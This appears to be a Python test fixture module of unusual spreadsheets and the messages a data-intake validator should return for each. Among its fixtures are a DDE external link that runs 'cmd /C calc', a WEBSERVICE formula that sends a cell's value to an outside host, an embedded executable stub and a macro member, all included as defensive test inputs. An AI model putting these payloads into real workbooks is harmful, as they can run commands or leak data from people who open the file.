"""Odd workbooks: how people lay sheets out, what spreadsheets of other kinds hold, and what is in a cell beside its value."""

# ruff: noqa: E501  a message stands in one line, as it is said

from __future__ import annotations

import io
from collections.abc import Callable, Sequence
from datetime import date, datetime
from typing import Any, Final

import openpyxl
from openpyxl.utils.datetime import MAC_EPOCH
from openpyxl.worksheet.worksheet import Worksheet

from tests.bad_files import SOUND_WORKBOOK, far_cell, with_member, workbook
from tests.corpus import NOT_ALL, SOUND, TWO, UNKNOWN, OddFile
from tests.odd_files import ods, ole, xls, zipped
from walktalk_data.intake.problem_report import write_report

HEADINGS = ("request_id", "received_on", "borough")
ROWS: Sequence[Sequence[object]] = (HEADINGS, ("R-1", date(2022, 2, 1), "Havering"), ("R-2", date(2022, 2, 13), "Redbridge"))
AS_TEXT: Sequence[Sequence[object]] = (HEADINGS, ("R-1", "2022-02-01", "Havering"), ("R-2", "2022-02-13", "Redbridge"))
CHANGES: Sequence[Sequence[object]] = (("request_id", "status", "status_on"), ("R-01", "completed", date(2022, 2, 1)))
ENCRYPTED = '<manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry>'


def changed(change: Callable[[Worksheet], object], rows: Sequence[Sequence[object]] = ROWS) -> bytes:
    """A workbook of one sheet, changed by hand before it is saved."""
    made = openpyxl.Workbook()
    sheet: Any = made.worksheets[0]
    sheet.title = "requests"
    for row in rows:
        sheet.append(list(row))
    change(sheet)
    file = io.BytesIO()
    made.save(file)
    return file.getvalue()


def with_sheets_hidden() -> bytes:
    made = openpyxl.load_workbook(io.BytesIO(workbook({"requests": ROWS, "last year": ROWS, "kept away": ROWS})))
    made["last year"].sheet_state = "hidden"
    made["kept away"].sheet_state = "veryHidden"
    return saved(made)


def counted_from_1904() -> bytes:
    made = openpyxl.load_workbook(io.BytesIO(workbook({"requests": (HEADINGS, ("R-1", 43131, "Havering"))})))
    made.epoch = MAC_EPOCH
    return saved(made)


def saved(made: openpyxl.Workbook) -> bytes:
    file = io.BytesIO()
    made.save(file)
    return file.getvalue()


def merged(sheet: Worksheet) -> None:
    sheet["A1"], sheet["B1"], sheet["C1"] = "request_id", "When and where", None
    sheet["B2"], sheet["C2"] = "received_on", "borough"
    sheet.merge_cells("A1:A2")
    sheet.merge_cells("B1:C1")


def with_comment(sheet: Worksheet) -> None:
    from openpyxl.comments import Comment

    sheet["A2"].comment = Comment("ring Jane Smith on 07700 900123", "PC Jones")
    sheet["C2"].hyperlink = "mailto:jane.smith@example.org"


def reported() -> bytes:
    """What a problem report makes of a file, mended since in its rows but not in what it says of them."""
    _, content = write_report(workbook({"requests": ROWS}), "week.xlsx", [], [])
    made = openpyxl.load_workbook(io.BytesIO(content))
    sheet = made["requests"]
    sheet["D1"], sheet["D2"], sheet["D4"] = "What is wrong", "borough: is blank.", "request_id: is blank."
    return saved(made)


LINK = b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
CALLS = '=WEBSERVICE("http://example.org/?"&A2)'

WORKBOOKS: Final[dict[str, OddFile]] = {
    "dates_as_dates": OddFile(workbook({"requests": ROWS}), name="week.xlsx", rows=TWO),
    "dates_as_text": OddFile(workbook({"requests": AS_TEXT}), name="week.xlsx", rows=TWO),
    "sheets_of_other_names": OddFile(
        workbook({"Sheet1": ROWS, "Sheet2": CHANGES}),
        name="week.xlsx",
        rows=(
            (2, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering"}),
            (3, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),
            (2, {"request_id": "R-01", "status_on": "2022-02-01", "status": "completed"}),
        ),
    ),
    "a_table_on_two_sheets": OddFile(
        workbook({"January": ROWS[:2], "February": (ROWS[0], ROWS[2])}),
        name="week.xlsx",
        rows=(
            (2, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering"}),
            (2, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),
        ),
    ),
    "xlsx_called_xls": OddFile(workbook({"requests": ROWS}), name="week.xls", rows=TWO),
    "an_old_workbook": OddFile(xls(AS_TEXT), name="week.xls", rows=TWO),
    "an_old_workbook_with_serial_dates": OddFile(xls((HEADINGS, ("R-1", 44593, "Havering"))), name="week.xls", rows=SOUND),
    "an_old_workbook_from_1904": OddFile(
        xls((HEADINGS, ("R-1", 43131, "Havering")), counts_from_1904=True), name="week.xls", rows=SOUND
    ),
    "an_old_workbook_with_a_password": OddFile(
        xls(AS_TEXT, has_password=True),
        name="week.xls",
        notices=(NOT_ALL,),
        problems=(
            "week.xls is protected by a password. Open it in Excel, take the password off (File, Info, Protect) and save it.",
        ),
    ),
    "an_old_workbook_that_is_hidden": OddFile(
        xls(AS_TEXT, is_hidden=True),
        name="week.xls",
        notices=(
            "week.xls, sheet requests, is hidden, and was left out. Unhide it if it is to be read.",
            NOT_ALL,
        ),
        problems=(f"week.xls {UNKNOWN}",),
    ),
    "an_opendocument_spreadsheet": OddFile(ods({"requests": AS_TEXT}), name="week.ods", rows=TWO),
    "an_opendocument_spreadsheet_with_a_password": OddFile(
        ods({"requests": AS_TEXT}, manifest=ENCRYPTED),
        name="week.ods",
        notices=(NOT_ALL,),
        problems=(
            "week.ods is protected by a password. Open it in Excel, take the password off (File, Info, Protect) and save it.",
        ),
    ),
    "formulas_in_an_opendocument_spreadsheet": OddFile(
        ods({"requests": (HEADINGS, ("R-1", "2022-02-01", "=A1"))}),
        name="week.ods",
        notices=(
            "week.ods has formulas. The values that they showed when it was saved were read; an error among them was read as blank.",
        ),
        problems=(
            "week.ods, sheet requests row 2, borough: what is written there is not one of: Havering, Redbridge, Barking and Dagenham.",
        ),
    ),
    "a_password": OddFile(
        ole({"EncryptionInfo": b"x", "EncryptedPackage": b"x"}),
        name="week.xlsx",
        notices=(NOT_ALL,),
        problems=(
            "week.xlsx is protected by a password. Open it in Excel, take the password off (File, Info, Protect) and save it.",
        ),
    ),
    "macros": OddFile(
        with_member(SOUND_WORKBOOK, "xl/vbaProject.bin", b"\x00"),
        name="week.xlsx",
        notices=(NOT_ALL,),
        problems=('week.xlsx has macros in it. Save it as "Excel Workbook (.xlsx)", without macros.',),
    ),
    "the_macro_kind": OddFile(
        SOUND_WORKBOOK,
        name="week.xlsm",
        notices=(NOT_ALL,),
        problems=('week.xlsm is a workbook with macros (.xlsm). Save it as "Excel Workbook (.xlsx)", without macros.',),
    ),
    "title_rows": OddFile(
        workbook({"requests": (("Requests",), ("as at Monday",), (), *ROWS)}),
        name="week.xlsx",
        rows=(
            (5, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering"}),
            (6, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),
        ),
        notices=("week.xlsx, sheet requests, has its headings in row 4: rows 1 and 2 above them were left out.",),
    ),
    "merged_headings": OddFile(
        changed(merged, ((), (), *ROWS[1:])),
        name="week.xlsx",
        rows=(
            (3, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering"}),
            (4, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),
        ),
    ),
    "totals_and_notes": OddFile(
        workbook({"requests": (*ROWS, ("Total", 2), (), ("Source: the mailbox",))}),
        name="week.xlsx",
        rows=TWO,
        notices=(
            "week.xlsx, sheet requests, has totals in row 4, which was left out.",
            "week.xlsx, sheet requests, has a single value after a blank row in row 6, which was left out.",
        ),
    ),
    "a_total_that_is_a_formula": OddFile(
        workbook({"requests": (*ROWS, ("Total", "=COUNTA(A2:A3)"))}),
        name="week.xlsx",
        rows=TWO,
        notices=("week.xlsx, sheet requests, has totals in row 4, which was left out.",),
    ),
    "hidden_sheets": OddFile(
        with_sheets_hidden(),
        name="week.xlsx",
        rows=TWO,
        notices=(
            "week.xlsx, sheet last year, is hidden, and was left out. Unhide it if it is to be read.",
            "week.xlsx, sheet kept away, is hidden, and was left out. Unhide it if it is to be read.",
        ),
    ),
    "a_sheet_of_notes": OddFile(
        workbook({"Read me": (("ring Jane Smith",), ("07700 900123",)), "requests": ROWS}),
        name="week.xlsx",
        rows=TWO,
        notices=("week.xlsx, sheet Read me, has no row of headings, and was left out: rows 1 to 2.",),
    ),
    "an_empty_sheet": OddFile(
        workbook({"requests": ROWS, "Sheet2": ()}), name="week.xlsx", rows=TWO, notices=("week.xlsx, sheet Sheet2, is empty.",)
    ),
    "several_tables_on_a_sheet": OddFile(
        workbook({"all": (*ROWS, (), ("Changes",), *CHANGES)}),
        name="week.xlsx",
        rows=(
            (2, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering"}),
            (3, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),
            (7, {"request_id": "R-01", "status_on": "2022-02-01", "status": "completed"}),
        ),
        notices=("week.xlsx, sheet all, has a single value after a blank row in row 5, which was left out.",),
    ),
    "side_by_side": OddFile(
        workbook({"all": [(*left, None, *right) for left, right in zip(ROWS, [*CHANGES, ()], strict=True)]}),
        name="week.xlsx",
        rows=(
            (2, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering"}),
            (3, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),
            (2, {"request_id": "R-01", "status_on": "2022-02-01", "status": "completed"}),
        ),
    ),
    "blank_rows_and_columns_around": OddFile(
        workbook({"requests": ((), (), *((None, None, *row) for row in ROWS))}),
        name="week.xlsx",
        rows=(
            (4, {"request_id": "R-1", "received_on": "2022-02-01", "borough": "Havering"}),
            (5, {"request_id": "R-2", "received_on": "2022-02-13", "borough": "Redbridge"}),
        ),
    ),
    "numbers_as_text": OddFile(
        workbook(
            {
                "walks": (
                    ("walk_id", "kind", "started_at", "minutes", "borough", "women"),
                    ("7", "safety walk", "2022-02-28 19:00", "30", "Havering", "2"),
                )
            }
        ),
        name="week.xlsx",
        rows=(
            (
                2,
                {
                    "walk_id": "7",
                    "kind": "safety walk",
                    "started_at": "2022-02-28 19:00:00",
                    "minutes": 30,
                    "borough": "Havering",
                    "women": 2,
                },
            ),
        ),
    ),
    "ids_as_numbers": OddFile(
        workbook({"requests": (HEADINGS, (12, date(2022, 2, 1), "Havering"), (13.0, date(2022, 2, 13), "Redbridge"))}),
        name="week.xlsx",
        rows=(
            (2, {"request_id": "12", "received_on": "2022-02-01", "borough": "Havering"}),
            (3, {"request_id": "13", "received_on": "2022-02-13", "borough": "Redbridge"}),
        ),
    ),
    "an_id_that_became_a_date": OddFile(
        workbook({"requests": (HEADINGS, (date(2022, 3, 1), date(2022, 2, 1), "Havering"))}),
        name="week.xlsx",
        problems=(
            "week.xlsx, sheet requests row 2, request_id: is not an id but a date or time: the spreadsheet has changed it. Format the column as text and write it again.",
        ),
    ),
    "serial_dates": OddFile(
        workbook({"requests": (HEADINGS, ("R-1", 44593, "Havering"), ("R-2", 44605, "Redbridge"))}), name="week.xlsx", rows=TWO
    ),
    "serial_dates_from_1904": OddFile(counted_from_1904(), name="week.xlsx", rows=SOUND),
    "a_date_without_its_time": OddFile(
        workbook(
            {"walks": (("walk_id", "kind", "started_at", "borough"), ("W-1", "safety walk", date(2022, 2, 28), "Havering"))}
        ),
        name="week.xlsx",
        problems=('week.xlsx, sheet walks row 2, started_at: "2022-02-28" has no time of day. Write it as 2022-02-28 19:00.',),
    ),
    "a_day_and_a_time_apart": OddFile(
        workbook(
            {
                "walks": (
                    ("walk_id", "kind", "started_at", "start_time", "borough"),
                    ("W-1", "safety walk", date(2022, 2, 28), datetime(1900, 1, 1, 19).time(), "Havering"),
                )
            }
        ),
        name="week.xlsx",
        rows=((2, {"walk_id": "W-1", "kind": "safety walk", "started_at": "2022-02-28 19:00:00", "borough": "Havering"}),),
    ),
    "spaces_everywhere": OddFile(
        workbook(
            {" requests ": ((" request_id", "received_on\u00a0", "\nborough "), (" R-1 ", date(2022, 2, 1), "\u00a0Havering "))}
        ),
        name="week.xlsx",
        rows=SOUND,
    ),
    "formulas": OddFile(
        workbook({"requests": (HEADINGS, ("R-1", "=TODAY()", "Havering"))}),
        name="week.xlsx",
        problems=(
            "week.xlsx, sheet requests row 2, received_on: is a formula. Put its value there instead (copy, then paste as values).",
        ),
    ),
    "a_formula_that_calls_out": OddFile(
        workbook({"requests": ((*HEADINGS, "place"), ("R-1", date(2022, 2, 1), "Havering", CALLS))}),
        name="week.xlsx",
        problems=(
            "week.xlsx, sheet requests row 2, place: is a formula. Put its value there instead (copy, then paste as values).",
        ),
    ),
    "an_error": OddFile(
        workbook({"requests": (HEADINGS, ("R-1", date(2022, 2, 1), "#N/A"))}),
        name="week.xlsx",
        problems=(
            "week.xlsx, sheet requests row 2, borough: shows the error #N/A. Write the value itself, or leave the cell empty.",
        ),
    ),
    "comments_and_links": OddFile(changed(with_comment), name="week.xlsx", rows=TWO),
    "external_links_and_dde": OddFile(
        with_member(workbook({"requests": ROWS}), "xl/externalLinks/externalLink1.xml", LINK),
        name="week.xlsx",
        rows=TWO,
        notices=("week.xlsx points to other files or sources. These were not opened.",),
    ),
    "a_file_embedded": OddFile(
        with_member(workbook({"requests": ROWS}), "xl/embeddings/oleObject1.bin", b"MZ"),
        name="week.xlsx",
        rows=TWO,
        notices=("week.xlsx has other files embedded in it. These were not read.",),
    ),
    "the_last_cell_of_the_sheet": OddFile(
        far_cell(),
        name="week.xlsx",
        rows=SOUND,
        notices=("week.xlsx, sheet requests, has a single value after a blank row in row 1,048,576, which was left out.",),
    ),
    "a_row_of_every_column": OddFile(
        workbook({"requests": (*ROWS[:2], ("R-2", date(2022, 2, 13), "Redbridge", *[None] * 16_380, "x"))}),
        name="week.xlsx",
        rows=SOUND,
        problems=(
            "week.xlsx, sheet requests row 3 has a value in column XFD, which has no heading. Give the column a heading or clear the cell.",
        ),
    ),
    "headings_in_every_column": OddFile(
        workbook({"requests": ((*HEADINGS, *(f"extra {'x' * (place % 9)}" for place in range(16_381))), ROWS[1])}),
        name="week.xlsx",
        rows=SOUND,
        notices=(
            "week.xlsx, sheet requests: left out, for no such column is known: extra, extra x, extra xx, extra xxx, extra xxxx, extra xxxxx, extra xxxxxx, extra xxxxxxx, extra xxxxxxxx, extra, extra x, extra xx, extra xxx, extra xxxx, extra xxxxx, extra xxxxxx, extra xxxxxxx, extra xxxxxxxx, extra, extra x, extra xx, extra xxx, extra xxxx, extra xxxxx, extra xxxxxx, extra xxxxxxx, extra xxxxxxxx, extra, extra x, extra xx, extra xxx, extra xxxx, extra xxxxx, extra xxxxxx, extra xxxxxxx, extra xxxxxxxx, extra, extra x, extra xx, extra xxx, and 16,341 more.",
        ),
    ),
    "a_report_given_back": OddFile(reported(), name="week.xlsx", rows=TWO),
    "cut_short": OddFile(
        SOUND_WORKBOOK[: len(SOUND_WORKBOOK) // 2],
        name="week.xlsx",
        notices=(NOT_ALL,),
        problems=(
            "week.xlsx cannot be read: the workbook is damaged or cut short. Open it in Excel and save it again as an Excel workbook (.xlsx).",
        ),
    ),
    "a_zip_in_a_zip": OddFile(
        zipped({"inner.zip": zipped({"week.xlsx": SOUND_WORKBOOK})}),
        name="week.xlsx",
        notices=(NOT_ALL,),
        problems=("week.xlsx is not an Excel workbook. Open it in Excel and save it again as an Excel workbook (.xlsx).",),
    ),
    "spreadsheets_in_a_zip": OddFile(
        zipped({"week.xlsx": SOUND_WORKBOOK}),
        name="week.xlsx",
        notices=(NOT_ALL,),
        problems=("week.xlsx is a zip file with spreadsheets in it. Unpack it, and give the files that are in it.",),
    ),
    "a_web_page_called_xls": OddFile(
        "<html><table><tr><td>request_id</td></tr></table></html>",
        name="week.xls",
        notices=(NOT_ALL,),
        problems=(
            'week.xls is not an Excel workbook, though its name says so. Open it in Excel and save it as "Excel Workbook (.xlsx)".',
        ),
    ),
    "a_csv_file_called_xlsx": OddFile(
        "request_id,received_on,borough\nR-1,2022-02-01,Havering\n",
        name="week.xlsx",
        notices=(NOT_ALL,),
        problems=("week.xlsx is a CSV file, though its name ends in .xlsx. Rename it to end in .csv.",),
    ),
    "a_picture_called_xlsx": OddFile(
        b"\xff\xd8\xff\xe0\x00\x10JFIF",
        name="week.xlsx",
        notices=(NOT_ALL,),
        problems=("week.xlsx is a picture, though its name ends in .xlsx. Give the spreadsheet that it shows.",),
    ),
    "an_empty_workbook": OddFile(
        b"",
        name="week.xlsx",
        notices=(NOT_ALL,),
        problems=("week.xlsx is empty. Save the spreadsheet again, with its headings in row 1.",),
    ),
}
